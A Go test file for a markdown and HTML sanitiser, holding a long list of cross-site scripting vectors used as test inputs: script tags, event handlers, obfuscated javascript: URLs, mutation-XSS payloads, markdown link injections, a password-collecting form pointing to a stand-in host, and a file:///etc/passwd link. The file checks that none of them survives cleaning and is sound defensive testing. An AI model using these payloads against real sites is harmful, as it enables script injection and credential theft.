package markdown_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"picus/internal/markdown"
)

// vectors try to get script, style, a third party or the page itself to act. In
// the tables of OWASP and of the sanitisers' own histories each of them worked once.
var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//e.x/a.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/src=//e.x>`,
	`<script>alert(1)`, "<script\x00>alert(1)</script>", `<<script>alert(1);//<</script>`, `</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"//`, `<img/src=x/onerror=alert(1)>`, "<img src=x\x0conerror=alert(1)>",
	`<img src="javascript:alert(1)">`, `<img src=# style="background:url(javascript:alert(1))">`, `<img srcset="//e.x/a 1x">`, `<img lowsrc="javascript:alert(1)">`,
	`<img src='//e.x/p.gif'>`, `<img src="https://e.x/p.gif" loading=eager>`, `<img src="\\e.x\p.gif">`, `<img src="/\e.x/p.gif">`, `<img src="/	/e.x/p.gif">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`, `<svg><animate onbegin=alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src=//e.x></iframe>`,
	`<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x>`, `<base href="//e.x/">`, `<meta http-equiv=refresh content="0;url=//e.x">`,
	`<link rel=stylesheet href=//e.x/a.css>`, `<style>@import "//e.x/a.css"</style>`, `<style>body{background:url(//e.x)}</style>`, `<div style="width:expression(alert(1))">x</div>`,
	`<p style="position:fixed;inset:0">x</p>`, `<form action=//e.x><input name=password><button>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<input onfocus=alert(1) autofocus>`, `<input type=image src=//e.x/a>`, `<input type="checkbox" onclick="alert(1)">`, `<select><option>`, `<textarea autofocus onfocus=alert(1)>`,
	`<isindex action=javascript:alert(1) type=image>`, `<video src=//e.x/a onerror=alert(1)>`, `<video poster=//e.x/a>`, `<audio src=//e.x/a autoplay>`, `<source src=//e.x/a>`,
	`<details open ontoggle=alert(1)>x`, `<marquee onstart=alert(1)>`, `<body onload=alert(1)>`, `<body background=//e.x/a>`, `<table background=//e.x/a><tr><td background=//e.x/b>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	`<a href="javascript&#58;alert(1)">x</a>`, `<a href="javascript&Tab;:alert(1)">x</a>`, `<a href="jav&NewLine;ascript:alert(1)">x</a>`, `<a href="&#0000106avascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:x">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`, `<a href="view-source:javascript:alert(1)">x</a>`, `<a href="http:javascript:alert(1)">x</a>`, `<a href="https:/\e.x">x</a>`,
	"<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"\u200bjavascript:alert(1)\">x</a>", `<a href="ja&zwnj;vascript:alert(1)">x</a>`, `<a href="javascript://e.x/%0aalert(1)">x</a>`,
	`<a href=x onclick=alert(1)>x</a>`, `<a href="x" href="javascript:alert(1)">x</a>`, `<a href="javascript:alert(1)" href="x">x</a>`, `<a target=_blank rel=opener href=//e.x>x</a>`,
	`<a ping=//e.x href=/x>x</a>`, `<a href=/x download>x</a>`, `<a id=location name=location href=/x>x</a>`, `<img name=body src=/x>`, `<form id=attributes><input id=nodeName></form>`,
	`<p class="head nav page">x</p>`, `<p class="k evil">x</p>`, `<p id="h-x' onclick=alert(1)">x</p>`, `<p id='"><script>alert(1)</script>'>x</p>`, `<p title='"><script>alert(1)</script>'>x</p>`,
	`<p lang='"><img src=x onerror=alert(1)>'>x</p>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite="javascript:alert(1)">x</q>`, `<del datetime="x" onclick=alert(1)>x</del>`,
	`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script> -->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`, `<title><script>alert(1)</script></title>`, `<noembed><img src=x onerror=alert(1)></noembed>`,
	`<template><script>alert(1)</script></template>`, `<frameset onload=alert(1)><frame src="javascript:alert(1)">`, `<custom-element onclick=alert(1)>x</custom-element>`, `<x onclick=alert(1) style=x contenteditable>x</x>`,
	`<a href="https://e.x" title="</a><script>alert(1)</script>">x</a>`, `<b <script>alert(1)</script>0`, `<p/onclick=alert(1)>x`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, "`<script>alert(1)</script>`",
	"[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](javascript&#58;alert(1))", "[x](<java\tscript:alert(1)>)", "[x](  javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](//e.x)", `[x](\\e.x)`, `[x](/\e.x)`,
	"![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](https://e.x/p.gif)", `![" onerror="alert(1)](/x)`, `![x](/y "t\" onerror=\"alert(1)")`, `[x](/y "t' onclick='alert(1)")`,
	"<javascript:alert(1)>", "<https://e.x/\"onclick=alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[[\"><script>alert(1)</script>]]", "[[x|<script>alert(1)</script>]]", "[[x\" onclick=\"alert(1)]]", "@\"onclick=alert(1)",
	"https://e.x/\"onclick=\"alert(1)", "https://e.x/'onclick='alert(1)", "https://e.x/<script>alert(1)</script>", "```\"><script>alert(1)</script>\nx\n```", "```x onclick=alert(1)\nx\n```", "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
	"| a |\n|---|\n| <script>alert(1)</script> |", "[^<script>]\n\n[^<script>]: x", "- [x](vbscript:x)", "<a@b.c\"onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
}

func TestNothingOfTheVectorsActs(t *testing.T) {
	for _, v := range vectors {
		for name, got := range map[string]string{
			"Clean":  markdown.Clean(v),
			"Render": markdown.Render(v, markdown.Options{}).HTML,
			"Text":   markdown.Text(v).HTML,
		} {
			if fault := acts(got); fault != "" {
				t.Errorf("%s(%q) = %s: %s", name, v, got, fault)
			}
			if again := markdown.Clean(got); again != got {
				t.Errorf("Clean(%s(%q)) = %s; want %s", name, v, again, got)
			}
		}
	}
}

// harmlessTags and harmlessAttributes are written here once more, so that a slip
// in the sanitiser's own tables is noticed.
var (
	harmlessTags = strings.Fields(`a abbr b bdi blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure
		h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th
		thead time tr u ul var wbr`)
	harmlessAttributes = strings.Fields(`align alt checked class colspan datetime dir disabled height href id lang loading open rel reversed rowspan
		span src start title type value width`)
)

// acts says what in a piece of HTML could act, by reading it as a browser would.
func acts(s string) string {
	nodes, err := html.ParseFragment(strings.NewReader(s), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return err.Error()
	}
	for _, n := range nodes {
		for n := range n.Descendants() {
			if fault := nodeActs(n); fault != "" {
				return fault
			}
		}
		if fault := nodeActs(n); fault != "" {
			return fault
		}
	}
	return ""
}

func nodeActs(n *html.Node) string {
	switch n.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return "a node that is neither element nor text: " + n.Data
	}
	if !slices.Contains(harmlessTags, n.Data) {
		return "an element " + n.Data
	}
	for _, a := range n.Attr {
		if n.Data == "input" && a.Key == "aria-label" && (a.Val == "☐" || a.Val == "☑") {
			continue // the name of a task's box
		}
		if !slices.Contains(harmlessAttributes, a.Key) {
			return "an attribute " + a.Key
		}
		if fault := valueActs(n.Data, a); fault != "" {
			return fault
		}
	}
	return ""
}

func valueActs(tag string, a html.Attribute) string {
	switch a.Key {
	case "href", "src":
		scheme, _, found := strings.Cut(a.Val, ":")
		local := !found || strings.ContainsAny(scheme, "/?#%")
		if strings.HasPrefix(a.Val, "//") || strings.ContainsAny(a.Val, "\\ \t\n\"<>") || tag == "img" && !local {
			return "an address " + a.Val
		}
		if !local && scheme != "http" && scheme != "https" && scheme != "mailto" {
			return "a scheme " + scheme
		}
	case "id":
		if !strings.HasPrefix(a.Val, "h-") && !strings.HasPrefix(a.Val, "fn-") && !strings.HasPrefix(a.Val, "fnref-") {
			return "an id without its prefix: " + a.Val
		}
	case "class":
		for _, c := range strings.Fields(a.Val) {
			if c == "head" || c == "nav" || c == "page" || c == "evil" {
				return "a class " + c
			}
		}
	}
	return ""
}

func TestLinksToOtherSitesAreMarked(t *testing.T) {
	for _, v := range []string{`<a href="https://e.x/">x</a>`, `<a href="//e.x/" rel="follow">x</a>`, `<a HREF='HTTP://e.x/'>x</a>`} {
		if got := markdown.Clean(v); !strings.Contains(got, `rel="ugc nofollow noopener"`) {
			t.Errorf("Clean(%q) = %s; want it marked", v, got)
		}
	}
	if got := markdown.Clean(`<a href="/x" rel="me">x</a>`); got != `<a href="/x">x</a>` {
		t.Errorf("Clean() = %s; a link of our own needs no mark", got)
	}
}

func TestForeignHTMLStaysInItsPlace(t *testing.T) {
	for _, row := range []struct{ name, source, want string }{
		{"an element without an end", "<b>a", "<b>a</b>"},
		{"an end without an element", "a</div></article>b", "ab"},
		{"crossed elements", "<b><i>a</b>c</i>", "<b><i>a</i></b>c"},
		{"a block in a paragraph", "<p>a<div>b</div>", "<p>a</p><div>b</div>"},
		{"a paragraph in a paragraph", "<p>a<p>b", "<p>a</p><p>b</p>"},
		{"a link in a link", `<a href="/a">a<a href="/b">b</a></a>`, `<a href="/a">a</a><a href="/b">b</a>`},
		{"an item without a list", "<li>a", "<div>a</div>"},
		{"items without an end", "<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
		{"a list in a list", "<ul><li>a<ul><li>b</ul><li>c</ul>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"},
		{"a cell without a table", "<td>a</td>", "a"},
		{"cells without an end", "<table><tr><td>a<td>b<tr><td>c</table>", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"},
		{"a cell without a row", "<table><td>a</table>", "<table><tr><td>a</td></tr></table>"},
		{"an end tag in a cell", "<div><table><tr><td>a</div>b</table>c", "<div><table><tr><td>ab</td></tr></table>c</div>"},
		{"a heading in a heading", "<h2>a<h3>b", "<h2>a</h2><h3>b</h3>"},
		{"landmarks", "<main><nav>a</nav></main>", "<div><div>a</div></div>"},
		{"a definition list", "<dl><dt>a<dd>b</dl>", "<dl><dt>a</dt><dd>b</dd></dl>"},
		{"harmless elements", "<kbd>a</kbd><sub>b</sub><sup>c</sup><abbr title=\"d\">e</abbr><ruby>汉<rt>hàn</rt></ruby>", "<kbd>a</kbd><sub>b</sub><sup>c</sup><abbr title=\"d\">e</abbr><ruby>汉<rt>hàn</rt></ruby>"},
		{"details", "<details open><summary>a</summary>b</details>", `<details open=""><summary>a</summary>b</details>`},
		{"too many elements", strings.Repeat("<b>", 70) + "a", strings.Repeat("<b>", 64) + "a" + strings.Repeat("</b>", 64)},
		{"ids", `<p id="main">a</p><a href="#main">b</a>`, `<p id="h-main">a</p><a href="#h-main">b</a>`},
		{"a frame", `<iframe src="https://e.x/v"></iframe>`, `<a class="ext-image" href="https://e.x/v" rel="ugc nofollow noopener">e.x</a>`},
		{"directional characters", "a\u202eb", "<bdi>a\u202eb</bdi>"},
		{"control characters", "a\x00b\x07c", "a\ufffdbc"},
	} {
		got := markdown.Clean(row.source)
		if got != row.want {
			t.Errorf("%s: Clean(%q) = %s; want %s", row.name, row.source, got, row.want)
		}
		if again := markdown.Clean(got); again != got {
			t.Errorf("%s: Clean(%q) = %s the second time", row.name, got, again)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := markdown.Clean(s)
		if twice := markdown.Clean(once); twice != once {
			t.Errorf("Clean(%q) = %q; cleaned again %q", s, once, twice)
		}
		if fault := acts(once); fault != "" {
			t.Errorf("Clean(%q) = %q: %s", s, once, fault)
		}
	})
}

func FuzzText(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Add("> a\n>> b\n>>> c\n\n>>> x = 1\n\n@@ -1,2 +1,2 @@\n-a\n+b\n\n```py\nx\n```\n-- \nme")
	f.Fuzz(func(t *testing.T, s string) {
		got := markdown.Text(s).HTML
		if clean := markdown.Clean(got); clean != got {
			t.Errorf("Text(%q) = %q; Clean makes %q of it", s, got, clean)
		}
	})
}
